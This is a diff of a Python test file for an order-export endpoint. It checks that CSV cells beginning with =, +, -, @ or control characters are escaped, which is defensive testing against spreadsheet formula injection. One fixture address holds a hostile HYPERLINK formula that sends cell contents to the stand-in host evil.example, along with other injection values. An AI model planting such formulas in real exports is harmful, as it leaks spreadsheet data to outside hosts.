@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+from dataclasses import replace
 
 import httpx
 
 from api.auth import Role
 from api.db import Database
+from api.spreadsheets import safe_cell
 from tests.factories import api_key, staff_token
-from tests.service.orders.conftest import Shop
+from tests.service.orders.conftest import POTSDAM, Shop
 
 RANGE = {"from": "2000-01-01", "to": "2100-01-01"}
 
@@ -72,3 +76,25 @@ async def test_bad_ranges_and_formats_are_refused_before_streaming(
     )
     assert offset.status_code == 200
     assert "orders-20251231T230000-20260101T230000.csv" in offset.headers["content-disposition"]
+
+
+async def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
+    http: httpx.AsyncClient, database: Database, shop: Shop
+) -> None:
+    hostile = replace(POTSDAM, name='=HYPERLINK("https://evil.example/?"&A1,"x")',
+                      line1="+1 Main St", line2="@SUM(A1)")  # fmt: skip
+    await shop.place(("TEE-M", 1), address=hostile)
+    token = await staff_token(database, Role.ADMIN)
+    answer = await http.get(
+        "/exports/orders.csv", params=RANGE, headers={"authorization": f"Bearer {token}"}
+    )
+    [row] = list(csv.DictReader(io.StringIO(answer.text)))
+    assert row["ship_name"] == "'" + hostile.name
+    assert (row["ship_line1"], row["ship_line2"]) == ("'+1 Main St", "'@SUM(A1)")
+    assert row["quantity"] == "1" and row["total"].isdigit(), "numbers are written as they are"
+
+
+def test_safe_cells() -> None:
+    assert [safe_cell(v) for v in ["=1+1", "-2", "\tx", "\rx", "@x", "plain", -3, 2.5, None]] == [
+        "'=1+1", "'-2", "'\tx", "'\rx", "'@x", "plain", -3, 2.5, None,
+    ]  # fmt: skip
